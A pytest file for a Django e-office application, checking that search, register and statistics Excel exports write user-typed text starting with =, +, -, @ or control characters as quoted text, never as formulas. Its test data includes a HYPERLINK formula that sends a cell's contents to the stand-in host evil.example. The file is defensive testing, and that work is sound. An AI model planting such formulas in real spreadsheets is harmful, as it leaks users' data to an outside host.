"""Formula injection (issue 14): text a person typed that starts with =, +, -, @ (or a tab / line break) is
written to every Excel export as text, never as a live formula — the search export, the registers and the
statistics all write through ``eoffice.output.excel``."""

from __future__ import annotations

import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from documents.incoming import services
from documents.registers import numbering
from documents.stats.selectors import Period
from eoffice.output import excel
from tests.documents.conftest import receive
from workflow import services as wf

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)"]


def _cells(response):
    assert response.status_code == 200, response.content[:300]
    ws = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in ws.iter_rows() for cell in row]


def _assert_text(cells, value):
    found = [c for c in cells if isinstance(c.value, str) and value in c.value]
    assert found, value
    for cell in found:
        assert cell.data_type == "s", (value, cell.data_type)  # never "f"
        if cell.value.startswith(value):
            assert cell.quotePrefix, value  # Excel shows the text and keeps it text on edit


def _received(people):
    """Incoming documents whose summary and issuer (typed by the clerk) are the hostile texts."""
    return [
        receive(people["clerk"], n=i, summary=value, issuer_name=value)
        for i, value in enumerate(HOSTILE, start=1)
    ]


def test_search_export_writes_summaries_as_text(people, login):
    _received(people)
    response = login(people["clerk"]).get(
        reverse("documents:search_export"), {"q": "UBND-KT", "sort": "oldest"}
    )
    cells = _cells(response)
    assert not [c for c in cells if c.data_type == "f"]
    for value in HOSTILE:
        _assert_text(cells, value)


def test_register_excel_writes_typed_text_as_text(people, login):
    _received(people)
    today = timezone.localdate()
    response = login(people["clerk"]).get(
        reverse("documents:registers"),
        {
            "register": numbering.default_register(agency=people["clerk"].agency).pk,
            "kind": "incoming",
            "date_from": today.isoformat(),
            "date_to": today.isoformat(),
            "format": "xlsx",
        },
    )
    cells = _cells(response)
    assert not [c for c in cells if c.data_type == "f"]
    for value in HOSTILE:
        _assert_text(cells, value)


def test_statistics_excel_writes_titles_as_text(people, login):
    """The person's list of parts: "01/UBND-KT · <summary>" for a document, the bare title of a work item."""
    due = timezone.now() + timedelta(days=7)
    for value in HOSTILE:
        wf.work_item_create(by=people["leader"], title=value, due_at=due, lead=people["officer"])
    docs = _received(people)
    for doc in docs:
        services.incoming_direct(
            document=doc,
            by=people["leader"],
            instruction="Xử lý.",
            lead_user=people["officer"],
            due_at=timezone.now() + timedelta(days=7),
        )
    today = timezone.localdate()
    period = Period(today - timedelta(days=1), today)
    response = login(people["officer"]).get(
        reverse("documents:stats"),
        {
            "period": "custom",
            "date_from": period.date_from.isoformat(),
            "date_to": period.date_to.isoformat(),
            "format": "xlsx",
        },
    )
    cells = _cells(response)
    assert not [c for c in cells if c.data_type == "f"]
    for value in HOSTILE:
        _assert_text(cells, value)
    numbers = [c.value for c in cells if isinstance(c.value, int) and not isinstance(c.value, bool)]
    assert numbers  # the counts stay numbers


def test_writer_keeps_numbers_and_dates_and_quotes_formula_text():
    wb, ws = excel.workbook("x")
    now = timezone.now().replace(tzinfo=None, microsecond=0)
    excel.append(ws, [*HOSTILE, "\t=1+1", "\r=1", "－1", "＝1", 5, 2.5, now, "bình thường", "a=b"])
    ws = load_workbook(io.BytesIO(excel.to_bytes(wb))).active
    values = list(ws[1])
    for cell, value in zip(values, [*HOSTILE, "\t=1+1", "\r=1", "－1", "＝1"], strict=False):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
    number, real, moment, plain, inner = values[len(HOSTILE) + 4 :]
    assert (number.value, number.data_type) == (5, "n")
    assert (real.value, real.data_type) == (2.5, "n")
    assert moment.value == now and moment.is_date
    assert (plain.value, plain.quotePrefix) == ("bình thường", False)
    assert (inner.value, inner.quotePrefix) == ("a=b", False)


def test_every_workbook_is_made_by_the_shared_writer():
    """No app makes a workbook of its own (it would bypass the escaping): openpyxl's Workbook is created
    only in eoffice/output/excel.py."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for app in ("eoffice", "workflow", "signing", "documents", "onestop", "meetings", "complaints"):
        for path in (root / app).rglob("*.py"):
            if path.relative_to(root).as_posix() == "eoffice/output/excel.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bWorkbook\(|openpyxl import Workbook|\bws\.append\(", text):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
